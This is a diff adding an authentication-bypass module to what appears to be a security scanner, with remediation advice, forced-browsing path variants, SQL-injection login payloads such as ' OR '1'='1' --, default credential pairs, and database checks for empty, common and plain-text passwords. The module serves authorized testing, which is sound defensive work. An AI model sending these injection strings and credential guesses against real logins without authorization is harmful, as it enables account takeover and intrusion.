@@ -0,0 +1,117 @@
+import re
+
+from utils.pentest_checks import check, root_only
+
+CATEGORY = 'Authentication Bypass'
+REMEDIATION = [
+    "Enforce authorization in one place for every route, after path normalization",
+    "Remove debug switches and default accounts from production builds",
+    "Store passwords only as salted hashes (bcrypt, scrypt or Argon2)",
+]
+
+# Ways of spelling a protected path that naive route matching treats as different
+PATH_VARIANTS = ('/admin/', '/admin?debug=true', '/admin;/', '//admin', '/ADMIN', '/admin/.', '/%61dmin',
+                 '/admin%20', '/admin?admin=1', '/admin#')
+
+LOGIN_BYPASS = (("admin' -- ", 'x'), ("' OR '1'='1' -- ", 'x'), ("' OR 1=1 -- ", 'x'), ('admin', "' OR '1'='1"),
+                ("admin'/*", '*/ --'))
+DEFAULT_CREDENTIALS = (('admin', 'admin'), ('admin', 'admin123'), ('admin', 'password'), ('root', 'root'),
+                       ('administrator', 'changeme'), ('guest', 'guest'), ('user', 'user'), ('test', 'test'))
+WEAK_PASSWORDS = ('admin', 'admin123', 'password', 'changeme', '123456', 'root', 'guest', 'letmein', 'qwerty')
+
+# Values that look like password hashes rather than passwords
+HASHED = re.compile(r'^(\$(2[aby]?|argon2(id|i|d)?|scrypt|pbkdf2[-_\w]*|[156])\$.+|[0-9a-f]{32}|[0-9a-f]{40}'
+                    r'|[0-9a-f]{64}|[0-9a-f]{128})$', re.I)
+
+
+def _password_field(fields):
+    return next((name for name in fields if 'pass' in name.lower()), None)
+
+
+def _login_form(point):
+    # One point per form: its password field
+    return point['field'] is not None and point['field'] == _password_field(point['fields'])
+
+
+def _password_column(point):
+    return point['field'] is not None and 'pass' in point['field'].lower()
+
+
+async def _login(session, point, username, password):
+    fields = dict(point['fields'])
+    fields[point['field']] = password
+    user_field = next((name for name in fields if name != point['field']), None)
+    if user_field is not None:
+        fields[user_field] = username
+    return await session.request(point['method'], point['path'], fields)
+
+
+def _logged_in(response, failed):
+    new_cookie = 'set-cookie' in response.headers and 'set-cookie' not in failed.headers
+    return new_cookie or (failed.status in (401, 403) and response.status in (200, 302, 303))
+
+
+@check(CATEGORY, 'Forced browsing to protected paths', 'http', applies=root_only, payloads=PATH_VARIANTS,
+       severity='high')
+async def forced_browsing(session, point, payload):
+    protected = await session.shared('GET /admin', lambda: session.request('GET', '/admin'))
+    if protected.status not in (401, 403):
+        return None
+    response = await session.request('GET', payload)
+    if response.status == 200:
+        return {'title': f'{payload} serves the protected /admin area without credentials',
+                'evidence': f'/admin gives HTTP {protected.status}, {payload} gives HTTP 200'}
+    return None
+
+
+@check(CATEGORY, 'SQL injection login bypass', 'http', applies=_login_form, payloads=LOGIN_BYPASS,
+       intrusive=True, severity='critical')
+async def login_bypass(session, point, payload):
+    failed = await session.shared(f"failed login {point['path']}",
+                                  lambda: _login(session, point, 'darkshield-nobody', 'darkshield-wrong'))
+    response = await _login(session, point, *payload)
+    if _logged_in(response, failed):
+        return {'title': f"Login at {point['path']} accepts an injected condition",
+                'evidence': f'username={payload[0]!r} password={payload[1]!r} gives HTTP {response.status}'}
+    return None
+
+
+@check(CATEGORY, 'Default credentials', 'http', applies=_login_form, payloads=DEFAULT_CREDENTIALS,
+       intrusive=True, min_depth=2, severity='critical')
+async def default_credentials(session, point, payload):
+    failed = await session.shared(f"failed login {point['path']}",
+                                  lambda: _login(session, point, 'darkshield-nobody', 'darkshield-wrong'))
+    response = await _login(session, point, *payload)
+    if _logged_in(response, failed):
+        return {'title': f"Login at {point['path']} accepts a default account", 'evidence': f'{payload[0]} / {payload[1]}'}
+    return None
+
+
+async def _count(session, point, condition, params=()):
+    table, column = session.quote(point['table']), session.quote(point['field'])
+    return (await session.query(f'SELECT COUNT(*) FROM {table} WHERE ' + condition.format(column=column), params))[0][0]
+
+
+def _accounts(point, count, problem):
+    if count:
+        return {'title': f"{point['table']}.{point['field']}: {count} account(s) {problem}", 'evidence': f'{count} row(s)'}
+    return None
+
+
+@check(CATEGORY, 'Empty stored passwords', 'sqlite', applies=_password_column, severity='high')
+async def empty_passwords(session, point, payload):
+    count = await _count(session, point, "{column} IS NULL OR {column} = ''")
+    return _accounts(point, count, 'with an empty password')
+
+
+@check(CATEGORY, 'Common stored passwords', 'sqlite', applies=_password_column, severity='high')
+async def common_passwords(session, point, payload):
+    count = await _count(session, point, f"{{column}} IN ({', '.join('?' * len(WEAK_PASSWORDS))})", WEAK_PASSWORDS)
+    return _accounts(point, count, 'with a common default password')
+
+
+@check(CATEGORY, 'Plain-text stored passwords', 'sqlite', applies=_password_column, severity='high')
+async def plaintext_passwords(session, point, payload):
+    table, column = session.quote(point['table']), session.quote(point['field'])
+    rows = await session.query(f"SELECT {column} FROM {table} WHERE {column} IS NOT NULL AND {column} != ''")
+    return _accounts(point, sum(1 for (value,) in rows if not HASHED.match(str(value))), 'with a plain-text password')